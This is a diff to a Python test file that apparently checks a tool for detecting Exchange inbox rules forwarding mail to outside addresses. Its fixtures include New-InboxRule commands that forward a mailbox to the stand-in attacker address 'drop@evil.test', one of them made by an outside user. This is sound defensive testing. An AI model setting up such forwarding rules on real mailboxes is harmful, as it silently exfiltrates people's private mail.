@@ -80,6 +80,8 @@ def rules_and_settings():
     rule = command('New-InboxRule', Name='r', ForwardTo='drop@evil.test')
     is_('a rule forwards what comes', rule, here)
     is_('one that could not be made does not', command('New-InboxRule', ok='False', Name='r', ForwardTo='drop@evil.test'))
+    is_('one that somebody of another organisation made may be in any mailbox', command('New-InboxRule', user='mallory@evil.example', Name='r', ForwardTo='drop@evil.test'),
+        {'four six seven': 'presumed forwarded'})
     is_('it was removed by its name', [rule, command('Remove-InboxRule', '2025-06-12T09:00:00', Name='r')], gone)
     is_('it was removed by an administrator, who names the mailbox with it', [rule, by_admin('Remove-InboxRule', Identity='ada\\r')], gone)
     is_('a rule of somebody else that has its name was removed', [rule, by_admin('Remove-InboxRule', Identity='bob\\r')], here)
